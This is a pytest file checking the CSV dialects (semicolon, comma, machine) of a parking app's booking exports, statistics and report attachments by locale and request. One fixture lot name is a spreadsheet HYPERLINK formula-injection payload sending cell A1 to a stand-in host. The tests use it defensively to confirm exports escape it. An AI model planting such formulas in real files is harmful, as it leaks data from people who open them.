"""Case 14: which dialect a file has, by who asks, where and how."""

import csv
import io
from datetime import timedelta

import pytest

from parking import bookings, clock
from parking.accounts.models import User
from parking.database import db
from parking.exports import build, files
from parking.exports.columns import BOOKING_HEADER
from parking.mail.models import OutboxMail
from parking.reports import batches, send_now
from tests.bookings.helpers import make_lot as create_lot
from tests.bookings.helpers import text
from tests.bookings.series.stage import book_series
from tests.conftest import make_user
from tests.exports.stage import make_lot, stay

NAME = 'Süd;=HYPERLINK("http://x.example/?"&A1;"open")'


@pytest.fixture
def german(app, alice):
    db.session.get(User, alice.id).locale = "de"
    db.session.commit()
    lot = make_lot(NAME)
    stay(alice, lot, clock.now() - timedelta(days=1), 1.5, cost=375)
    return alice


def rows_of(data, separator):
    text = data.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=separator))


@pytest.fixture
def exported(client, auth, german):
    """The file that an order of POST /api/exports makes, and the answer to it."""

    def export(**body):
        answer = client.post("/api/exports", json={"kind": "bookings", **body}, headers=auth(german))
        assert answer.status_code == 202, answer.json
        build.run(answer.json["export"]["id"])
        done = client.get(f"/api/exports/{answer.json['export']['id']}", headers=auth(german)).json["export"]
        return client.get(done["download_url"], headers=auth(german)).data, done

    return export


def test_a_german_account_gets_a_german_file(exported):
    data, done = exported()
    assert done["format"] == "semicolon"
    assert data.startswith(b"\xef\xbb\xbf")
    heading, line = rows_of(data, ";")
    cells = dict(zip(heading, line, strict=True))
    assert heading[:4] == ["ID", "Buchungsnummer", "Parkplatz", "Stellplatz"]
    assert cells["Parkplatz"] == NAME.replace("=", "'=")
    assert (cells["Preis pro Stunde"], cells["Gesamtpreis"], cells["Dauer (Stunden)"]) == ("2,50", "3,75", "1,5")
    assert (cells["Beginn"], cells["Zeitzone"]) == ("2026-03-01 13:00:00", "Europe/Berlin")


def test_an_english_account_gets_english_headings(exported, client, auth, german):
    client.patch("/auth/me", json={"locale": "en"}, headers=auth(german))
    data, done = exported()
    heading, line = rows_of(data, ",")
    cells = dict(zip(heading, line, strict=True))
    assert done["format"] == "comma"
    assert heading[:4] == ["ID", "Reference", "Lot", "Spot"]
    assert (cells["Price per hour"], cells["Start"], cells["Time zone"]) == (
        "2.50", "2026-03-01 13:00:00", "Europe/Berlin")  # fmt: skip
    assert tuple(rows_of(exported(format="machine")[0], ",")[0]) == BOOKING_HEADER, "programs get identifiers"


@pytest.mark.parametrize(
    ("form", "separator", "start", "cost"),
    [
        ("machine", ",", "2026-03-01T13:00:00+01:00", "3.75"),
        ("comma", ",", "2026-03-01 13:00:00", "3.75"),
        ("semicolon", ";", "2026-03-01 13:00:00", "3,75"),
    ],
)
def test_another_format_can_be_requested(exported, form, separator, start, cost):
    data, done = exported(format=form)
    heading, line = rows_of(data, separator)
    assert done["format"] == form
    assert (line[BOOKING_HEADER.index("start_time")], line[BOOKING_HEADER.index("total_cost")]) == (start, cost)
    assert (tuple(heading) == BOOKING_HEADER) == (form == "machine")


def test_another_format_is_another_job(exported, client, auth, german):
    first = client.post("/api/exports", json={"format": "comma"}, headers=auth(german)).json["export"]["id"]
    same = client.post("/api/exports", json={"format": "comma"}, headers=auth(german)).json["export"]["id"]
    other = client.post("/api/exports", json={"format": "machine"}, headers=auth(german)).json["export"]["id"]
    assert first == same != other


@pytest.mark.parametrize("path", ["/api/export", "/api/stats/admin.csv?from=2026-03-01&to=2026-03-01"])
def test_an_unknown_format_is_refused(client, auth, german, carol, path):
    answer = client.get(path, query_string={"format": "excel"} if "?" not in path else None, headers=auth(carol))
    if "?" in path:
        answer = client.get(f"{path}&format=excel", headers=auth(carol))
    assert answer.status_code == 422
    assert client.post("/api/exports", json={"format": "xlsx"}, headers=auth(german)).status_code == 422


def test_the_clients_export_keeps_its_columns(client, auth, german):
    """`Accept: text/csv` is the contract's; by mail the file is for a person."""
    answer = client.get("/api/export", headers=auth(german, Accept="text/csv"))
    assert tuple(rows_of(answer.data, ",")[0]) == BOOKING_HEADER
    answer = client.get("/api/export?format=auto", headers=auth(german, Accept="text/csv"))
    assert rows_of(answer.data, ";")[0][0] == "ID"
    assert client.get("/api/export", headers=auth(german)).json["export"]["format"] == "semicolon"


FIRST = (
    *("id", "reference", "lot_name", "spot_number", "booking_type", "status", "start_time", "end_time"),
    *("reserved_start", "reserved_end", "checked_in_at", "duration_hours", "price_per_hour", "total_cost", "currency"),
    *("vehicle_plate", "timezone", "created_at"),
)
OF_USER = ("lot_id", "spot_id", "user_id", "user_email", "username", "ended_by", "reason")
LAST = ("series_id", "visitor_name", "visitor_email")


def test_series_and_visitors_are_the_last_columns(client, auth, german, carol):
    """The others stay where they are: programs know them by their place."""
    lot = create_lot(carol)
    dates = book_series(german, lot, count=2)
    guest = bookings.Visitor("Vera Gast", "vera@example.org", "en", is_guest=False)
    start, end = (text(clock.now() + timedelta(days=9, hours=hour)) for hour in (0, 1))
    bookings.book(bookings.BookRequest(lot["id"], german.id, start, end, visitor=guest))
    machine = auth(german, Accept="text/csv")
    own = rows_of(client.get("/api/export", headers=machine).data, ",")
    assert tuple(own[0]) == BOOKING_HEADER == (*FIRST, *LAST)
    series = str(dates["series"]["id"])
    assert [row[-3:] for row in own[1:]] == [["", "Vera Gast", "vera@example.org"], *[[series, "", ""]] * 2, [""] * 3]
    everybody = rows_of(client.get("/api/admin/bookings.csv?format=machine", headers=auth(carol)).data, ",")
    assert tuple(everybody[0]) == (*FIRST, *OF_USER, *LAST)
    assert [row[-3:] for row in everybody[1:]] == [row[-3:] for row in own[1:]]
    german_heading = rows_of(client.get("/api/export?format=auto", headers=machine).data, ";")[0]
    assert german_heading[-3:] == ["Serien-ID", "Besuch", "E-Mail des Besuchs"]


def test_statistics_follow_the_accounts_language_only_at_the_csv_address(client, auth, german):
    path = "/api/stats/user{}?month=2026-03"
    person = client.get(path.format(".csv"), headers=auth(german)).data
    assert rows_of(person, ";") == [
        ["Parkplatz-ID", "Name", "Besuche", "Geparkt (Sekunden)", "Ausgegeben (EUR)"],
        ["1", NAME.replace("=", "'="), "1", "5400", "3,75"],
    ]
    program = client.get(path.format(""), headers=auth(german, Accept="text/csv")).data
    assert rows_of(program, ",")[0] == ["lot_id", "name", "visits", "parked_seconds", "spent_EUR"]
    assert client.get(path.format(".csv") + "&format=machine", headers=auth(german)).data == program


def test_files_attached_to_reports_are_in_the_recipients_language(app, german, carol):
    """Two administrators of two languages: each gets both files in their own dialect; so does the driver."""
    chief = make_user("chief", "user", "admin")
    db.session.get(User, chief.id).locale = "de"
    db.session.commit()
    clock.travel(31 * 86_400)
    send_now.start(["admin_monthly_report", "user_monthly_report"], force=True)
    batches.process_batches()
    db.session.rollback()
    attached = {}
    for letter in db.session.query(OutboxMail).filter(OutboxMail.kind.like("%_monthly_report")):
        for file in letter.attachments:
            text = file.get("text") or files.absolute(file["path"]).read_text("utf-8")
            attached[letter.user_id, letter.kind, file["filename"]] = text.lstrip("\ufeff").split("\r\n")[0]
    admin = "admin_monthly_report"
    assert attached[chief.id, admin, "lots_2026-03.csv"].startswith('"Parkplatz-ID";"Parkplatz";"Buchungen"')
    assert attached[chief.id, admin, "bookings_2026-03.csv"].startswith('"ID";"Buchungsnummer"')
    assert attached[carol.id, admin, "lots_2026-03.csv"].startswith('"Lot ID","Lot","Bookings"')
    assert attached[carol.id, admin, "bookings_2026-03.csv"].startswith('"ID","Reference"')
    assert attached[german.id, "user_monthly_report", "bookings_2026-03.csv"].startswith('"ID";"Buchungsnummer"')


def test_the_account_chooses_once_for_every_file(exported, client, auth, german):
    """An English account of a country that writes 2,50: the export, the list, the statistics."""
    change = {"locale": "en", "csv_format": "semicolon"}
    assert client.patch("/auth/me", json=change, headers=auth(german)).json["user"]["csv_format"] == "semicolon"
    data, done = exported()
    heading, line = rows_of(data, ";")
    cells = dict(zip(heading, line, strict=True))
    assert (done["format"], cells["Total cost"], cells["Start"]) == ("semicolon", "3,75", "2026-03-01 13:00:00")
    statistics = client.get("/api/stats/user.csv?month=2026-03", headers=auth(german)).data
    assert rows_of(statistics, ";")[1][-1] == "3,75"
    assert exported(format="comma")[1]["format"] == "comma", "what is asked for comes first"
    assert tuple(rows_of(client.get("/api/export", headers=auth(german, Accept="text/csv")).data, ",")[0]) == (
        BOOKING_HEADER
    ), "programs get what they always got"


def test_reports_are_written_as_their_recipients_chose(app, carol, german):
    """Three administrators who read English: two spreadsheets and a program."""
    for name, form in (("comma", "comma"), ("semicolon", "semicolon"), ("machine", "machine")):
        db.session.get(User, make_user(name, "user", "admin").id).csv_format = form
        db.session.commit()
    clock.travel(31 * 86_400)
    send_now.start(["admin_monthly_report"], force=True)
    batches.process_batches()
    db.session.rollback()
    seen = {}
    for letter in db.session.query(OutboxMail).filter(OutboxMail.kind == "admin_monthly_report"):
        separator = ";" if letter.name == "semicolon" else ","
        lots, bookings = letter.attachments
        [_, line] = rows_of(files.absolute(bookings["path"]).read_bytes(), separator)
        assert rows_of(lots["text"].encode(), separator)[0][0] == ("lot_id" if letter.name == "machine" else "Lot ID")
        seen[letter.name] = (line[BOOKING_HEADER.index("start_time")], line[BOOKING_HEADER.index("total_cost")])
    assert seen == {
        "carol": ("2026-03-01 13:00:00", "3.75"),
        "comma": ("2026-03-01 13:00:00", "3.75"),
        "semicolon": ("2026-03-01 13:00:00", "3,75"),
        "machine": ("2026-03-01T13:00:00+01:00", "3.75"),
    }
